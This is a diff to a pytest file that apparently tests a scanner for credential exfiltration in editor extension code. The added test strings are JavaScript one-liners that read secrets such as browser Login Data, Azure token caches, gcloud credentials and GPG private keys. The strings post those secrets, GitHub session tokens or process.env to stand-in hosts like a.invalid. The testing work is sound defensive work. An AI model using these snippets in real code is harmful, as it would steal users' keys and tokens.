@@ -95,6 +95,20 @@ def test_the_whole_environment_that_is_sent_is_found(source: str) -> None:
             " 'http://x.invalid' + e.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI);"
         ),
         "cp.spawn('ssh', ['-i', home + '/.ssh/id_rsa', host]); post('connected');",
+        # What lies beside secrets, and is none.
+        "post(fs.readFileSync(home + '/.config/solana/cli/config.yml'));",
+        "post(fs.readFileSync(home + '/.config/BraveSoftware/Brave-Browser/DevToolsActivePort'));",
+        "post(fs.readFileSync(home + '/.config/gcloud/configurations/config_default'));",
+        "post(fs.readFileSync(home + '/.nuget/packages/a/1.0.0/a.nuspec'));",
+        "post(fs.readFileSync(home + '/.gnupg/gpg-agent.conf'));",
+        "post(fs.readFileSync(home + '/.azure/config'));",
+        # The server that the user has set.
+        (
+            "const host = vscode.workspace.getConfiguration('github-enterprise').get('uri');"
+            " vscode.authentication.getSession('github-enterprise', []).then((s) =>"
+            " fetch(new URL('/api/v3/user', host), { headers: { a: s.accessToken } }));"
+        ),
+        "fetch('http://127.0.0.1:9/j', { body: fs.readFileSync(home + '/.npmrc') });",
     ],
 )
 def test_a_near_miss_is_not_found(source: str) -> None:
@@ -114,6 +128,51 @@ fetch('https://a.invalid/s', { method: 'POST', body: text });
     assert "SSH keys (~/.ssh/id_rsa) (line 1)" in finding.message
     assert "sends it (line 4)" in finding.message
     assert finding.line == 4
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/.config/solana/id.json",
+        "/.config/solana/' + name + '",
+        "/.config/google-chrome/Default/Login Data",
+        "/.config/google-chrome/' + profile + '",
+        "/.azure/msal_token_cache.json",
+        "/.azure/' + name + '",
+        "/.config/gcloud/credentials.db",
+        "/.nuget/NuGet/NuGet.Config",
+        "/.gnupg/private-keys-v1.d/a.key",
+    ],
+)
+def test_what_lies_in_a_folder_of_secrets_is_one(path: str) -> None:
+    source = f"post(fs.readFileSync(home + '{path}'));"
+    assert worst(findings_of(CHECK, START + source), RULE) == Severity.CRITICAL
+
+
+@pytest.mark.parametrize(
+    "host",
+    ["https://github.com.a.invalid/s", "https://a.invalid/github.com", "https://a@b.invalid"],
+)
+def test_a_session_goes_to_its_service_by_the_name_of_the_host(host: str) -> None:
+    send = f"fetch('{host}', {{ method: 'POST', body: s.accessToken }})"
+    source = f"vscode.authentication.getSession('github', []).then((s) => {send});"
+    assert worst(findings_of(CHECK, START + source), RULE) == Severity.CRITICAL
+
+
+@pytest.mark.parametrize(
+    "here",
+    [
+        "net.connect('/tmp/editor.sock')",
+        "net.connect({ path: os.tmpdir() + '/editor.sock' }).on('error', () => {})",
+        "net.createConnection({ port: 9229 })",
+        "net.connect(9229, 'localhost').setEncoding('utf8')",
+    ],
+)
+def test_a_socket_that_is_made_for_this_machine_sends_nothing(here: str) -> None:
+    write = "s.write(JSON.stringify(process.env));"
+    assert findings_of(CHECK, f"{START}const s = {here}; {write}") == []
+    away = f"{START}const s = net.connect(443, 'a.invalid').on('error', () => {{}}); {write}"
+    assert findings_of(CHECK, away)
 
 
 CLIENT = """
